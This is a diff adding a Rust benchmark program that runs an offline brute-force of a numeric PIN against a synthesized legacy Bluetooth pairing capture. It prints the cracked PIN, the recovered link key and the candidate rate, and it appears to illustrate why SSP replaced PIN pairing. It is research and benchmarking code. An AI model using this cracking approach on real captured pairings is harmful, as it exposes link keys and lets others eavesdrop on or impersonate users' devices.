@@ -1,0 +1,50 @@
+//! Offline numeric-PIN brute force against a sniffed legacy pairing — the
+//! paper's cited motivation for SSP (refs 14 and 15).
+//!
+//! ```text
+//! cargo run --release -p blap-bench --bin pincrack [pin]
+//! ```
+
+use std::time::Instant;
+
+use blap::legacy_pin::{crack_numeric_pin, LegacyPairingCapture};
+
+fn main() {
+    let pin = std::env::args().nth(1).unwrap_or_else(|| "4821".to_owned());
+    println!("== Legacy PIN cracking (E22/E21/E1 offline search) ==\n");
+    println!("synthesizing a sniffed legacy pairing with PIN {pin:?}...\n");
+
+    let capture = LegacyPairingCapture::synthesize(
+        "11:11:11:11:11:11".parse().expect("valid address"),
+        "00:1b:7d:da:71:0a".parse().expect("valid address"),
+        pin.as_bytes(),
+        [0xA1; 16],
+        [0xB2; 16],
+        [0xC3; 16],
+        [0xD4; 16],
+    );
+
+    let start = Instant::now();
+    match crack_numeric_pin(&capture, 6) {
+        Some(result) => {
+            let elapsed = start.elapsed();
+            println!(
+                "cracked: PIN {:?} after {} candidates in {:.2?}",
+                String::from_utf8_lossy(&result.pin),
+                result.attempts,
+                elapsed
+            );
+            println!("recovered link key: {}", result.link_key);
+            println!(
+                "rate: {:.0} candidates/s",
+                result.attempts as f64 / elapsed.as_secs_f64().max(1e-9)
+            );
+        }
+        None => println!("not found in the numeric search space (non-numeric PIN?)"),
+    }
+    println!(
+        "\nEach candidate costs one E22 + two E21 + one E1 (12 SAFER+ block\n\
+         encryptions total) — a 4-digit PIN space is trivially searchable,\n\
+         which is exactly why SSP replaced PIN pairing."
+    );
+}
